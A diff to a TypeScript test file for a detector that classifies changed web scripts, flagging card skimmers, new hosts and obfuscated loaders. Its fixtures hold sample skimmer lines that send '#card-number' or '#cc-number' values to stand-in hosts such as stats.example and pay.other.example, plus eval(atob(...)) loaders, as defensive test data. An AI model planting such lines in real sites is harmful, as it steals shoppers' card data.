@@ -1,4 +1,4 @@
-// Guards the verdicts on changed scripts: silent about noise, loud about theft.
+// Verdicts on changed scripts: silent about noise, loud about theft.
 import { assert, constantFrom, integer, property } from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { type ChangeReason, type CompareGiven, type ContentKnowledge, compareScripts, sayReason } from '#changes/index.ts'
@@ -47,7 +47,7 @@ describe('noise', () => {
     ],
     ['JSON', '{"cart":{"items":[]},"user":"guest"}', '{"cart":{"items":[{"name":"Mug"}]},"user":"ann"}'],
     ['JSON in a text', 's(JSON.parse("{\\"n\\":1,\\"w\\":\\"Mug\\"}"))', 's(JSON.parse("{\\"n\\":22,\\"w\\":\\"Cap\\"}"))'],
-  ])('is told in the digest once, and is volatile when several contents taught it: %s', (_, before, after) => {
+  ])('goes into the digest once, and is volatile if several contents showed it: %s', (_, before, after) => {
     expect(compareScripts(before, after)).toMatchObject({
       verdict: 'rebuild',
       reasons: [{ code: 'data-changed-once', given: { places: 1 } }],
@@ -61,7 +61,7 @@ describe('noise', () => {
     expect(masked).toEqual([{ before: '9f2c4e1ab07d33aa', after: '01bc8dd2e9f07a64', lines: { before: [2, 2], after: [2, 2] } }])
   })
 
-  it('is learned from earlier contents, where nothing in it says so', () => {
+  it('is learned from earlier contents if the text does not show it', () => {
     const text = (word: string) => `greet("${word}", "fixed")`
     expect(verdict(text('ann'), text('bob'))).toBe('capability')
     expect(verdict(text('ann'), text('bob'), { history: [text('joe'), text('sue')] })).toBe('volatile')
@@ -77,7 +77,7 @@ describe('noise', () => {
     expect(verdict(before, after)).toBe('rebuild')
   })
 
-  it('that names the files which it loads by their new hashes is no news; the name of another file is', () => {
+  it('with new hashes of the files that it loads is not news; the name of another file is', () => {
     const loads = (cart: string, money: string) => `const deps=["assets/${cart}.js","assets/${money}.js"];import("./${cart}.js");go(deps)`
     const before = loads('cart-KestRelo', 'money-Bx1zQkWm')
     expect(verdict(before, loads('cart-Dh1qRtzP', 'money-BoldPine'))).toBe('rebuild')
@@ -90,7 +90,7 @@ describe('noise', () => {
     expect(verdict('a.src = "/gtm.js?id=" + i', 'a.src = "/gtm-beta.js?id=" + i')).toBe('capability')
   })
 
-  it('a new timer with an unknown function in another build of a program is no news, a new flow is', () => {
+  it('a new timer with an unknown function in another build of a program is not news, a new flow is', () => {
     const send = (what: string) =>
       `function a(f) { var safe = document.querySelector("#q").value, own = document.querySelector("#card-number").value; s("https://stats.example/?" + ${what}) } function s(u) { new Image().src = u }`
     expect(verdict(send('safe'), send('own'))).toBe('malicious')
@@ -101,11 +101,11 @@ describe('noise', () => {
     ['a text', 'x.b(); y.c("t")', 'y.c("t"); x.b("and more")'],
     ['a property', 'x.b(); y.c()', 'y.c(); x.b().e'],
     ['a global', 'x.b(); y.c()', 'y.c(); x.b(zzz)'],
-  ])('is no rebuild once %s came', (_, before, after) => {
+  ])('is not a rebuild once %s was added', (_, before, after) => {
     expect(verdict(before, after)).toBe('release')
   })
 
-  it('a version of a library that only does ordinary things more is a release', () => {
+  it('a version of a library that only does more ordinary things is a release', () => {
     const next = `${library.replace('a.width7', 'a.height7')}\nfunction added(node) {\n  node.className = 'is-open';\n}`
     expect(compareScripts(library, next)).toMatchObject({ verdict: 'release', newCapabilities: [] })
     expect(codes(library, next, { knowledge: published })).toContain('library-release')
@@ -114,14 +114,14 @@ describe('noise', () => {
 })
 
 describe('a theft', () => {
-  it('that is appended is malicious, with its lines and what it can newly do', () => {
+  it('that is appended is malicious, with its lines and new capabilities', () => {
     const found = compareScripts(form, `${form}\n${thief}`)
     expect(found.verdict).toBe('malicious')
     expect(found.lines).toEqual([{ before: null, after: [5, 7] }])
     expect(found.newCapabilities.map(({ kind, what }) => `${kind} ${what}`)).toContain('sends card > cdn-metrics.example')
   })
 
-  it('that comes with a release of a library is told, whatever else changed', () => {
+  it('that arrives with a library release is reported, whatever else changed', () => {
     const next = `${library.replace('a.width7', 'a.height7')}\n${thief}`
     const given: CompareGiven = { knowledge: published }
     expect(compareScripts(library, next, given)).toMatchObject({ verdict: 'malicious', lines: [{ after: [181, 183] }] })
@@ -130,7 +130,7 @@ describe('a theft', () => {
   it.each([
     ['base64', `eval(atob("${Buffer.from(thief).toString('base64')}"))`],
     ['character codes', `Function(String.fromCharCode(${[...thief].map((one) => one.charCodeAt(0)).join()}))()`],
-  ])('is seen through %s, at the line that runs it', (_, hidden) => {
+  ])('is recognized through %s, at the line that runs it', (_, hidden) => {
     expect(compareScripts(form, `${form}\n${hidden}`)).toMatchObject({ verdict: 'malicious', lines: [{ before: null, after: [5, 5] }] })
   })
 
@@ -139,7 +139,7 @@ describe('a theft', () => {
     ['a selector', '#email', '#card-number', 'selector-changed', 1],
     ['a path', '/steps', '/gather', 'address-changed', 3],
     ['an event', "'change'", "'keyup'", 'text-changed', 2],
-  ])('by swapping %s alarms at its line', (_, from, to, code, line) => {
+  ])('by swapping %s raises an alert at its line', (_, from, to, code, line) => {
     const found = compareScripts(form, form.replace(from, to))
     expect(found.reasons.map((reason) => reason.code)).toContain(code)
     expect(['capability', 'malicious']).toContain(found.verdict)
@@ -151,24 +151,24 @@ describe('a theft', () => {
     ['a list', (host: string) => `window.hosts = ["https://${host}/a", 2]`],
     ['a JSON text', (host: string) => `start(JSON.parse('{"api":"https://${host}/a"}'))`],
     ['a file of JSON', (host: string) => `{"api":"https://${host}/a"}`],
-  ])('by swapping a host in %s alarms, says both, and no release speaks for it', (_, text) => {
+  ])('by swapping a host in %s raises an alert, reports both hosts, and no release excuses it', (_, text) => {
     const found = compareScripts(text('api.shop.example'), text('evil.example'), { knowledge: published })
     expect(found).toMatchObject({ verdict: 'capability', reasons: [{ code: 'host-changed' }] })
     expect(sayReason(found.reasons[0] as ChangeReason, 'en')).toBe('It now contains evil.example instead of https://api.shop.example/a.')
   })
 
-  it('by swapping an address in character codes alarms', () => {
+  it('by swapping an address in character codes raises an alert', () => {
     const text = (host: string) => `fetch(String.fromCharCode(${[...`https://${host}/`].map((one) => one.charCodeAt(0)).join()}))`
     expect(verdict(text('stats.example'), text('thief.example'))).toBe('capability')
   })
 
-  it('by swapping an address that is turned round in base64 alarms', () => {
+  it('by swapping an address that is reversed in base64 raises an alert', () => {
     const text = (host: string) =>
       `fetch(atob("${[...Buffer.from(`https://${host}/`).toString('base64')].reverse().join('')}".split("").reverse().join("")))`
     expect(verdict(text('stats.example'), text('thief.example'))).toBe('capability')
   })
 
-  it('by swapping a host always alarms, also at a place that was learned to be volatile', () => {
+  it('by swapping a host always raises an alert, even at a place known as volatile', () => {
     const host = (number: number, ending: string) => `h${number.toString(36)}.${ending}`
     const text = (name: string) => `load("https://${name}/x.js?v=1"); other(2)`
     const any = [integer({ min: 0, max: 1e9 }), constantFrom('com', 'example', 'ru', 'co.uk', 'cloudfront.net')] as const
@@ -189,7 +189,7 @@ describe('a theft', () => {
     ['code', '{"text":"Hello"}', '{"text":"document.cookie"}'],
     ['another selector', '{"field":"#email"}', '{"field":"#cc-number"}'],
     ['another account', '{"key":"pk_live_51AbCdEfGhIj"}', '{"key":"pk_live_99ZyXwVuTsRq"}'],
-  ])('in data alarms: %s', (_, before, after) => {
+  ])('in data raises an alert: %s', (_, before, after) => {
     expect(verdict(before, after)).toBe('capability')
     expect(verdict(`window.__STATE__ = ${before};`, `window.__STATE__ = ${after};`)).toBe('capability')
   })
@@ -199,17 +199,17 @@ describe('a theft', () => {
     ['an import', 'import("https://cdn-metrics.example/a.mjs")'],
     ['written markup', 'document.write("<scr" + "ipt src=//cdn-metrics.example/a.js></scr" + "ipt>")'],
     ["the shop's own host", 's = document.createElement("script"); s.src = "/media/stat.js"; document.head.append(s)'],
-  ])('by a loader alarms: %s', (_, loader) => {
+  ])('by a loader raises an alert: %s', (_, loader) => {
     expect(compareScripts(library, `${library}\n${loader}`)).toMatchObject({ verdict: 'capability', lines: [{ after: [181, 181] }] })
   })
 })
 
-describe('what is known of a content', () => {
+describe('knowledge of a content', () => {
   const next = `${library}\nfunction added(node) { node.className = 'is-open' }`
 
   const alone = known({ authorized: true, addressAccounts: 3 })
 
-  it('makes it targeted where an authorized address of a third party gives it to nobody else', () => {
+  it('marks it as targeted if an authorized third-party address serves it to nobody else', () => {
     expect(compareScripts(library, next, { knowledge: alone, party: 'third' })).toMatchObject({
       verdict: 'targeted',
       reasons: [{ code: 'nobody-else', given: { accounts: 3 } }],
@@ -223,13 +223,13 @@ describe('what is known of a content', () => {
     expect(verdict(library, next, { knowledge: alone, party: 'first' })).toBe('release')
   })
 
-  it('does not make noise, a rebuild or a published file targeted', () => {
+  it('does not mark noise, a rebuild, or a published file as targeted', () => {
     expect(verdict('t = "9f2c4e1ab07d33aa"', 't = "01bc8dd2e9f07a64"', { knowledge: alone, party: 'third' })).toBe('rebuild')
     expect(verdict(form, form.replaceAll('field', 'x'), { knowledge: alone, party: 'third' })).toBe('rebuild')
     expect(verdict(library, next, { knowledge: { ...alone, release: published.release }, party: 'third' })).toBe('release')
   })
 
-  it('makes it a deploy where its hash was announced and it is the site’s own', () => {
+  it('marks it as a deploy if its hash was announced and it is the site’s own', () => {
     const after = `${form}\nfetch('https://new.shop.example/')`
     const knowledge = known({ deploy: { commit: 'abcdef0123456789', announcedAt: '2026-11-23T08:00:00.000Z' } })
     const { verdict: own, reasons } = compareScripts(form, after, { party: 'first', knowledge })
@@ -243,7 +243,7 @@ describe('what is known of a content', () => {
   it.each([
     ['the published file of a library', known({ release: { library: 'jquery', version: '3.7.1' } }), 'library-release'],
     ['what three other accounts get', known({ contentAccounts: 3 }), 'seen-elsewhere'],
-  ])('makes %s a release where it only asks a new host, and neither theft nor a hidden host less grave', (_, knowledge, code) => {
+  ])('marks %s as a release if it only contacts a new host, and does not lower theft or a hidden host', (_, knowledge, code) => {
     const names = `${library}\nfetch('https://docs.lib.example/')`
     expect(verdict(library, names)).toBe('capability')
     expect(compareScripts(library, names, { knowledge })).toMatchObject({
@@ -255,7 +255,7 @@ describe('what is known of a content', () => {
     expect(verdict(library, hidden, { knowledge })).toBe('capability')
   })
 
-  it('takes what general libraries can do for no news in a published file alone', () => {
+  it('ignores general library capabilities only in a published file', () => {
     const runs = `${library}\nwindow.run = function (a) { new Function(atob(a.code))() }; run({ code: 'YWxlcnQoMSk=' })`
     expect(verdict(library, runs)).toBe('capability')
     expect(verdict(library, runs, { knowledge: published })).toBe('release')
@@ -269,7 +269,7 @@ describe('what is known of a content', () => {
     `console.warn('This will go. Read //docs.lib.example/upgrade before you update.')`,
     `document.title = 'Powered by https://lib.example'`,
     `element.textContent = 'https://docs.lib.example/'`,
-  ])('takes a host that is only named for no capability: %s', (added) => {
+  ])('does not treat a host that is only mentioned as a capability: %s', (added) => {
     expect(verdict(library, `${library}\n${added}`)).toBe('release')
   })
 
@@ -279,11 +279,11 @@ describe('what is known of a content', () => {
     `window.docs = atob('aHR0cHM6Ly9kb2NzLmxpYi5leGFtcGxlLw==')`,
     `var a = 'https://docs.lib.example/'; eval(a.slice(location.length))`,
     `new Image().src = 'https://docs.lib.example/i'`,
-  ])('takes a host for one that the code may reach: %s', (added) => {
+  ])('treats a host that the code may contact as a capability: %s', (added) => {
     expect(verdict(library, `${library}\n${added}`)).toBe('capability')
   })
 
-  it('tells no theft that was there before', () => {
+  it('does not report earlier theft', () => {
     const theft = `addEventListener('change', function (e) { fetch('https://pay.other.example/x', { method: 'POST', body: document.querySelector('#cc-number').value }) })`
     const judge = (text: string) => judgeScript(text)
     expect(judgeScript(theft).verdict).toBe('malicious')
@@ -292,23 +292,23 @@ describe('what is known of a content', () => {
     expect(verdict(theft, `${theft.replace('pay.other', 'pay.another')}; var shown = true`, { judge })).toBe('malicious')
   })
 
-  it('says nothing where only two others get it', () => {
+  it('is silent if only two others receive it', () => {
     const names = `${library}\nfetch('https://docs.lib.example/')`
     expect(verdict(library, names, { knowledge: known({ contentAccounts: 2 }) })).toBe('capability')
   })
 
-  it('does not make theft less grave for a deploy', () => {
+  it('does not lower theft because of a deploy', () => {
     const knowledge = known({ deploy: { commit: null, announcedAt: '2026-11-23T08:00:00.000Z' } })
     expect(verdict(form, `${form}\n${thief}`, { party: 'first', knowledge })).toBe('malicious')
   })
 
-  it('makes hosts quiet that are approved', () => {
+  it('silences approved hosts', () => {
     const after = `${form}\nfetch('https://api.partner.example/')`
     expect(verdict(form, after)).toBe('capability')
     expect(verdict(form, after, { approvedHosts: ['api.partner.example'] })).toBe('release')
   })
 
-  it('makes it malicious where the judge says so, and an alarm where it grew suspicious', () => {
+  it('marks it as malicious if the judgement says so, and raises an alert if it became suspicious', () => {
     const judge = (verdict: 'suspicious' | 'malicious') => (text: string) => ({
       verdict: text === library ? ('benign' as const) : verdict,
       reasons: [{ code: 'model' as const, sentence: 'It looks like a skimmer.' }],
